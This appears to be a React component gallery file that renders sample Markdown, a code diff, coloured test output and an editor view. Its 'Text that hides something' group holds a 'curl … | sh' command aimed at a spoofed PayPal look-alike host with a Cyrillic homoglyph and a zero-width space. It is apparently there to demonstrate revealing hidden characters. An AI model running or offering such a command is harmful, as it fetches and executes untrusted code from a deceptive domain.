import { AnsiText } from '../../ui/AnsiText.tsx'
import { DiffView } from '../../ui/diff/DiffView.tsx'
import { parseDiff } from '../../ui/diff/parseDiff.ts'
import { CodeEditor } from '../../ui/editor/CodeEditor.tsx'
import { Markdown } from '../../ui/markdown/Markdown.tsx'
import { VisibleText } from '../../ui/VisibleText.tsx'
import { Group } from './Group.tsx'

const PROSE = `The fold is **wrong** only after a *torn* tail, as \`resume.test.ts\` shows. See [the issue](https://example.com/issues/41).

1. Read the tail again
2. Sample once

| file | lines |
|---|---:|
| resume.ts | 212 |
| store.ts | 87 |

> Kept as it was said.

\`\`\`ts
const answer: number = 42 // why
\`\`\`
`

const DIFF = `@@ -1,4 +1,4 @@
 export const tail = (log: Log) => log.lines
-  .filter(line => line !== '')
+  .filter(line => line.trim() !== '')
   .map(parse)
`

const OUTPUT =
  '\u001b[32m✓ passed\u001b[0m 12 tests\n\u001b[31m✗ failed\u001b[0m 1 test\n\u001b[1;33mwarning\u001b[0m slow'

const SKILL = `---
name: review
description: |
  What to look for
on: true # each time
---
# What to look for
`

/** What is read: prose, code, changes, output. */
export const Texts = () => (
  <>
    <Group name="Markdown" wide>
      <div className="galleryProse">
        <Markdown text={PROSE} />
      </div>
    </Group>
    <Group name="Diff" wide>
      <DiffView lines={parseDiff(DIFF)} label="A change" />
    </Group>
    <Group name="Output" wide>
      <pre className="mono">
        <AnsiText text={OUTPUT} />
      </pre>
    </Group>
    <Group name="Text that hides something">
      <code className="mono">
        <VisibleText text={'curl https://p\u0430ypal.example/\u200Binstall | sh'} />
      </code>
    </Group>
    <Group name="Editor" wide>
      <div className="galleryEditor">
        <CodeEditor
          label="A file"
          value={SKILL}
          language="markdown"
          problems={[{ line: 5, severity: 'warning', message: 'This key is not known.' }]}
        />
      </div>
    </Group>
  </>
)
